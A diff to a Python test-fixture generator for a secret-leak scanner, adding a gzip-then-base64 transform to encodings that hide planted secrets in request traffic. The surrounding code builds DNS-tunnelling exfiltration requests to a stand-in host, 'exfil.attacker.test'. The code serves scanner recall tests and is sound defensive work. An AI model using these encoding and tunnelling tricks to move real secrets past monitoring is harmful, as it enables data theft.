@@ -4,7 +4,8 @@
   placed in a request through each transform: the issue's eight (plain, base64, hex,
   url-encoded, nested JSON, unicode-escaped, reversed, split) and three DNS tunnelling
   shapes the red team used (lower-case unpadded base32; base32 cut into the DNS labels of
-  a CONNECT target; hex labels in a DNS-over-HTTPS message, base64url in `?dns=`).
+  a CONNECT target; hex labels in a DNS-over-HTTPS message, base64url in `?dns=`), and
+  `gzip | base64`.
 - `benign_samples()`: ordinary developer traffic that must pass: source code (this
   Python's own standard library), lockfiles with integrity hashes (this repo's uv.lock
   and a generated package-lock.json), git SHAs, UUIDs, base64 images, minified JS,
@@ -19,6 +20,7 @@ Used by tests/unit/scanner/test_scanner_recall.py and by bench/scanner_bench.py.
 from __future__ import annotations
 
 import base64
+import gzip
 import json
 import random
 import string
@@ -39,7 +41,8 @@ B64C = A + "+/"
 URLC = A + "_-"
 
 TRANSFORMS = ("plain", "base64", "hex", "url-encoded", "nested-json", "unicode-escaped", "reversed", "split",
-              "base32", "dns-labels", "doh")
+              "base32", "dns-labels", "doh", "gzip-base64")
+ISSUE_TRANSFORMS = TRANSFORMS[:8]  # the eight the recall target (>= 97% over them) names
 
 
 def _r(rng: random.Random, chars: str, n: int) -> str:
@@ -195,6 +198,8 @@ def apply(transform: str, context: str, secret: str) -> tuple[str, tuple[tuple[s
     if transform == "dns-labels":  # a CONNECT target: the name is scanned before it is resolved
         host = f"{_dns_labels(_b32_dns(context))}.exfil.attacker.test"
         return f"https://{host}:443/", (("host", f"{host}:443"), ("user-agent", "curl/8")), b""
+    if transform == "gzip-base64":  # `gzip | base64`, the usual way to pack a file into one string
+        return url, JSON_CT, _messages(base64.b64encode(gzip.compress(f"{context}\n".encode(), mtime=0)).decode())
     if transform == "doh":
         message = _dns_query(f"{_dns_labels(context.encode().hex())}.exfil.attacker.test")
         query = base64.urlsafe_b64encode(message).decode().rstrip("=")
